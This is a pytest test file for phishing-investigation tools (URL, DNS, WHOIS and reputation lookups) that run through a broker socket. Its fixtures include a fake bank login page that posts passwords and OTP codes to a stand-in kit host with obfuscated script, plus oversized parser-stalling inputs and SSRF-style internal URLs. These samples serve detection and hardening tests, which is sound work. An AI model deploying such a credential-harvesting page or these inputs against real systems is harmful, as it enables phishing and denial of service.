"""The tools that ask outside, over the broker's real socket: what they report, and that hostile answers do no harm."""

from __future__ import annotations

import asyncio
import importlib
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.unit.broker.test_answers import whois_servers
from tests.unit.broker.world import TICKET, World, dns_server, make_certificates, page, redirect, world
from tools.broker.client import Behalf, BrokerClient
from tools.broker.server import listening
from tools.checks import checked_result
from tools.investigate.answer import InputRefused
from tools.investigate.registration import date, from_rdap, from_whois
from tools.investigate.web_page import read_page
from tools.outside import NotAnswered, answered_by
from tools.registry import default_registry

ORGANIZATION = {"domains": ["harbourbank.example"], "brands": ["harbourbank", "Harbour Bank"]}
KNOWN = {"login.example.com": ["127.0.0.1"], "kit.example.net": ["127.0.0.1"]}


async def called(there: World, folder: Path, name: str, **arguments: Any) -> dict[str, Any]:
    """One call of a tool; its questions go over the socket, its answer through the checks of every answer."""
    tool = default_registry().get(name)
    module, _, function = str(tool.entry).partition(":")
    run = getattr(importlib.import_module(module), function)
    live = there.live.bundle
    assert live is not None
    client = BrokerClient(socket=folder / "b.sock")
    ask = client.ask_for(tool, Behalf(ticket_id=TICKET, network=live.network, check=lambda _question: None))
    loop = asyncio.get_running_loop()

    def channel(question: dict[str, Any]) -> dict[str, Any]:
        async def put() -> dict[str, Any]:
            return await ask(question)

        return asyncio.run_coroutine_threadsafe(put(), loop).result(timeout=20)

    def work() -> Any:
        with answered_by(channel):
            return run(tool.arguments.model_validate(arguments).model_dump(), {"organization": ORGANIZATION})

    return checked_result(json.loads(json.dumps(await asyncio.to_thread(work))), tool.facts_model)


@asynccontextmanager
async def serving(folder: Path, **changes: Any) -> AsyncIterator[World]:
    async with (
        world(folder, known=changes.pop("known", KNOWN), **changes) as there,
        listening(there.broker, folder / "b.sock"),
    ):
        yield there


# --- query_url

KIT = """<html><head><title>Harb0ur Bank – Sign in</title>
<meta http-equiv="refresh" content="9; url=//kit.example.net/b">
<script>var a = atob("eA=="); document.write(a); window.location = "/x"</script></head><body>Welcome to Harbour Bank
<form action="https://kit.example.net/post.php"><input type=hidden name=password><input name=user>
<input type="password" name="pw"><input name="otp_code"></form><iframe src="/f"></iframe></body></html>"""


async def test_phishing_page_is_described(tmp_path: Path) -> None:
    pair = make_certificates(tmp_path, "login.example.com")
    async with serving(tmp_path, certificate=pair) as there:
        there.web.pages["/a"] = redirect("https://login.example.com/in")
        there.tls.pages["/in"] = page(KIT)
        said = await called(there, tmp_path, "query_url", url="hxxp://login[.]example[.]com/a")
    facts, detail = said["facts"], said["detail"]
    assert facts["reached"]
    assert (facts["status"], facts["redirects"], facts["final_host"]) == (200, 1, "login.example.com")
    assert (facts["left_domain"], facts["cut_short"], facts["download"], facts["complete"]) == (
        False,
        False,
        False,
        True,
    )
    assert facts["login_form"]
    assert facts["form_leaves"]
    assert facts["imitates"]
    assert facts["sends_on"]
    assert facts["obfuscated"]
    assert facts["tls_valid"]
    assert facts["title"] == "Harb0ur Bank – Sign in"
    assert facts["content_type"] == "text/html"
    assert detail["asking_fields"] == ["pw", "otp_code"]
    assert detail["form_targets"] == ["https://kit.example.net/post.php"]
    assert detail["leads_to"] == "https://kit.example.net/b"
    assert "Welcome to Harbour Bank" in detail["text"]
    assert "atob" not in detail["text"]
    assert "asks for credentials" in said["summary"]


async def test_harmless_page_has_no_sign_and_a_download_is_named(tmp_path: Path) -> None:
    async with serving(tmp_path) as there:
        there.web.pages["/"] = page("<title>News</title><form action=/search><input name=q></form>")
        there.web.pages["/f"] = page(
            b"PK\x03\x04", kind="application/zip", Content_Disposition="attachment; filename=a.zip"
        )
        there.web.pages["/go"] = redirect("http://kit.example.net/f")
        there.web.pages["/out"] = redirect("http://10.0.0.1/")
        plain = (await called(there, tmp_path, "query_url", url="login.example.com"))["facts"]
        file = (await called(there, tmp_path, "query_url", url="http://login.example.com/go"))["facts"]
        out = await called(there, tmp_path, "query_url", url="http://login.example.com/out")
    signs = ("login_form", "form_leaves", "imitates", "sends_on", "obfuscated", "download", "left_domain", "cut_short")
    assert not any(plain[sign] for sign in signs)
    assert "tls_valid" not in plain
    assert (file["download"], file["left_domain"], file["final_domain"]) == (True, True, "example.net")
    assert out["facts"]["cut_short"]
    assert "our own hosts" in out["detail"]["stopped"]
    assert "10.0.0.1" not in str(out["detail"]["hops"])


async def test_site_that_is_gone_is_a_result_and_a_forbidden_one_is_not(tmp_path: Path) -> None:
    async with serving(tmp_path) as there:
        gone = await called(there, tmp_path, "query_url", url="http://gone.example.com/")
        assert (gone["facts"]["reached"], gone["detail"]["why"]) == (False, "The name has no address.")
        with pytest.raises(NotAnswered, match="unusual form"):
            await called(there, tmp_path, "query_url", url="http://0x7f.1/")
        with pytest.raises(InputRefused):
            await called(there, tmp_path, "query_url", url="http:///")


@pytest.mark.parametrize(
    "html",
    ["<" * 200_000, "<form " * 50_000, "<input type=password name=" + "x" * 300_000, "<script>" + "location " * 40_000,
     "<meta http-equiv=refresh content='url=" + "'" * 100_000, "<base href='http://[::1'><form action=x>",
     "<!--" * 70_000, "<div>" * 60_000, "<title>" + "&#55296;" * 1000, "<iframe src=//a" * 30_000, "<![CDATA[" * 40_000,
     "\x00" * 5000],
)  # fmt: skip
def test_hostile_page_is_read_in_time_and_never_fails(html: str) -> None:
    found = read_page(html, "https://login.example.com/")
    json.dumps([found.title, found.form_targets, found.text]).encode("utf-8", "replace")
    assert len(found.form_targets) <= 20


# --- query_dns


async def test_dns_facts_say_what_a_name_is_set_up_for(tmp_path: Path) -> None:
    table: dict[tuple[str, str], list[str] | str] = {
        ("mail.example.com", "A"): ["93.184.215.14", "10.0.0.7"],
        ("mail.example.com", "MX"): ["10 mx.example.com."],
        ("mail.example.com", "NS"): ["ns1.example.com.", "ns2.example.com."],
        ("mail.example.com", "TXT"): ['"v=spf1 -all"'],
        ("_dmarc.mail.example.com", "TXT"): ['"v=DMARC1; p=Reject; rua=mailto:x@example.com"'],
    }
    async with dns_server(table) as (server, resolver), serving(tmp_path, resolver=resolver) as there:
        said = await called(there, tmp_path, "query_dns", value="hxxps://mail[.]example[.]com/x")
        facts = said["facts"]
        assert facts == {
            "exists": True, "answered": True, "addresses": 2, "inner_addresses": 1, "mail_servers": 1,
            "name_servers": 2, "alias": False, "spf": True, "dmarc": "reject", "lowest_ttl": 300,
        }  # fmt: skip
        assert said["detail"]["records"]["A"] == ["10.0.0.7 (a private network)", "93.184.215.14"]
        server.asked.clear()
        gone = await called(there, tmp_path, "query_dns", value="gone.example.com")
        assert (gone["facts"]["exists"], gone["facts"]["answered"]) == (False, True)
        assert server.asked == [("gone.example.com", "A")]
        with pytest.raises(NotAnswered, match="our own hosts"):
            await called(there, tmp_path, "query_dns", value="www.harbourbank.example")


# --- whois

RDAP = {
    "objectClassName": "domain", "ldhName": "phish.example.com", "status": ["active"],
    "events": [{"eventAction": "registration", "eventDate": "2026-01-02T10:00:00Z"},
               {"eventAction": "expiration", "eventDate": "2027-01-02T10:00:00Z"}],
    "nameservers": [{"ldhName": "NS1.EXAMPLE.NET"}],
    "entities": [{"roles": ["registrar"], "vcardArray": ["vcard", [["fn", {}, "text", "Bad Names Ltd"]]],
                  "entities": [{"roles": ["abuse"], "vcardArray": ["vcard", [["email", {}, "", "a@x.example.net"]]]}]},
                 {"roles": ["registrant"], "vcardArray": ["vcard", [["org", {}, "text", "Privacy Guard"]]]}],
}  # fmt: skip


async def test_registration_comes_by_rdap_where_policy_lets_it(tmp_path: Path) -> None:
    pair = make_certificates(tmp_path, "data.iana.org", "rdap.example.com")
    known = {"data.iana.org": ["127.0.0.1"], "rdap.example.com": ["127.0.0.1"]}
    async with serving(tmp_path, known=known, certificate=pair) as there:
        services = {"services": [[["org"], ["https://x/"]], [["com"], ["https://rdap.example.com/v1/"]]]}
        there.tls.pages["/rdap/dns.json"] = page(json.dumps(services), kind="application/json")
        there.tls.pages["/v1/domain/example.com"] = page(json.dumps(RDAP), kind="application/rdap+json")
        facts = (await called(there, tmp_path, "whois", value="http://login.example.com/a"))["facts"]
    assert (facts["found"], facts["source"], facts["asked"]) == (True, "rdap", "example.com")
    assert (facts["registrar"], facts["private"], facts["created"]) == ("Bad Names Ltd", True, "2026-01-02")
    assert facts["name_servers"] == 1


async def test_registration_comes_by_whois_else(tmp_path: Path) -> None:
    text = "Registrar: Some Registrar\r\nCreation Date: 2026-01-02T03:04:05Z\r\nName Server: NS1.X.NET\r\n"

    async def servers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked = await reader.readline()
        root = b"refer: whois.verisign-grs.com\ncreated: 1985-01-01\n"
        writer.write(text.encode() if asked.startswith(b"domain ") else root)
        await writer.drain()
        writer.close()

    known = {"whois.iana.org": ["127.0.0.1"], "whois.verisign-grs.com": ["127.0.0.1"]}
    async with serving(tmp_path, known=known, whois=servers) as there:
        said = await called(there, tmp_path, "whois", value="www.example.com")
    facts = said["facts"]
    assert (facts["source"], facts["registrar"], facts["created"]) == ("whois", "Some Registrar", "2026-01-02")
    assert isinstance(facts["age_days"], int)
    assert [item["server"] for item in said["detail"]["answers"]] == ["whois.iana.org", "whois.verisign-grs.com"]


@pytest.mark.parametrize(
    ("text", "day"),
    [("2024-05-01T10:11:12Z", "2024-05-01"), ("2024.05.01", "2024-05-01"), ("01-May-2024", "2024-05-01"),
     ("1 May 2024", "2024-05-01"), ("Wed May 01 10:00:00 GMT 2024", "2024-05-01"), ("01/05/2024", "2024-05-01"),
     ("20240501", "2024-05-01"), ("2024-13-45", None), ("soon", None), ("9" * 5000, None)],
)  # fmt: skip
def test_dates_of_every_registry_are_read(text: str, day: str | None) -> None:
    found = date(text)
    assert (found.date().isoformat() if found else None) == day


def test_unregistered_and_network_answers_are_told_apart() -> None:
    assert not from_whois([{"server": "whois.example.net", "text": 'No match for "X.COM".\nCreated: 2020-01-01'}]).found
    network = from_whois(
        [{"server": "whois.ripe.net", "text": "inetnum: 192.0.2.0 - 192.0.2.255\nnetname: EVIL-NET\ncountry: NL\n"}]
    )
    assert (network.found, network.network, network.country) == (True, "EVIL-NET", "NL")
    assert not from_whois([]).found


@pytest.mark.parametrize(
    "text",
    ["", "[]", "{}", "[" * 10_000, '{"objectClassName": "domain", "events": {}, "entities": [[]]}',
     '{"objectClassName": "domain", "status": 1, "entities": [{"roles": 3, "vcardArray": ["vcard", [[1, 2], null]]}]}'],
)  # fmt: skip
def test_hostile_rdap_is_nothing(text: str) -> None:
    found = from_rdap(text)
    assert found is None or not found.found


@pytest.mark.parametrize(
    "text", ["created" + " " * 60_000, ("created:" + " " * 5000 + "\n") * 10, "status:" + "a " * 30_000, "\r" * 60_000]
)
def test_hostile_whois_text_is_read_in_time(text: str) -> None:
    from_whois([{"server": "whois.example.net", "text": text}])


# --- lookup_reputation


async def test_reputation_adds_up_what_vendors_say(tmp_path: Path) -> None:
    network = """
tools: {lookup_reputation: {vendor: {names: [one, two, three]}}}
vendors:
  one: {takes: {domain: {url: "https://one.example.com/{value}"}}, result: {malicious: bad}, malicious_from: {votes: 2}}
  two: {takes: {domain: {url: "https://two.example.com/{value}"}}, result: {score: score}, malicious_from: {score: 90}}
  three: {takes: {ip: {url: "https://three.example.com/{value}"}}}
"""
    pair = make_certificates(tmp_path, "one.example.com", "two.example.com")
    known = {"one.example.com": ["127.0.0.1"], "two.example.com": ["127.0.0.1"]}
    async with serving(tmp_path, known=known, network=network, certificate=pair) as there:
        there.tls.pages["/evil.example.com"] = page('{"bad": 5, "score": 40.5}', kind="application/json")
        facts = (await called(there, tmp_path, "lookup_reputation", value="evil[.]example.com"))["facts"]
        with pytest.raises(NotAnswered, match="No vendor that policy permits here takes a hash"):
            await called(there, tmp_path, "lookup_reputation", value="ab" * 32)
        with pytest.raises(InputRefused):
            await called(there, tmp_path, "lookup_reputation", value="anna@example.com")
    assert facts == {
        "type": "domain", "vendors": 2, "known": True, "malicious": True, "malicious_vendors": 1, "malicious_votes": 5,
        "score": 40.5, "all_answered": True,
    }  # fmt: skip


async def test_without_leave_every_tool_says_so(tmp_path: Path) -> None:
    async with serving(tmp_path, network="tools: {}\n", whois=whois_servers) as there:
        for name, arguments in (
            ("query_url", {"url": "http://login.example.com/"}), ("query_dns", {"value": "login.example.com"}),
            ("whois", {"value": "login.example.com"}), ("lookup_reputation", {"value": "login.example.com"}),
        ):  # fmt: skip
            with pytest.raises(NotAnswered, match="Policy does not let"):
                await called(there, tmp_path, name, **arguments)
        assert there.names.asked == []
